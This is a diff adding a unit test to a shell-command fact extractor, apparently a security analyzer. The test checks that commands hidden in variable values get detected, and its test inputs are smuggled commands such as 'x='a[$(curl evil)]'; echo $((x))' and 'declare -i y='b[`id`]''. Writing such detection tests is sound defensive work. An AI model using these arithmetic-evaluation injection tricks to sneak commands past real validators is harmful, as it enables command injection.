@@ -312,4 +312,17 @@ class FactExtractorTest {
         assertThat(facts("nohup ".repeat(depth + 1) + "ls").wrappers()).filteredOn(w -> !w.isPayloadReadable())
                 .hasSize(1);
     }
+
+    @Test
+    void codeStoredInAStaticValueIsExtracted() throws Exception {
+        SubCommand curl = facts("x='a[$(curl evil)]'; echo $((x))").subCommands().get(0);
+        assertThat(curl.getLine()).isEqualTo("curl evil");
+        assertThat(curl.getContextPath()).containsExactly("assignment value", "code stored in a variable",
+                "command substitution");
+        assertThat(facts("declare -i y='b[`id`]'").subCommands()).extracting(SubCommand::getLine)
+                .containsExactly("declare -i y=b[`id`]", "id");
+        // A value without substitution syntax, or one only known at run time, stores no code.
+        assertThat(facts("x='plain text'; y=\"$(id)\"").subCommands()).extracting(SubCommand::getLine)
+                .containsExactly("id");
+    }
 }
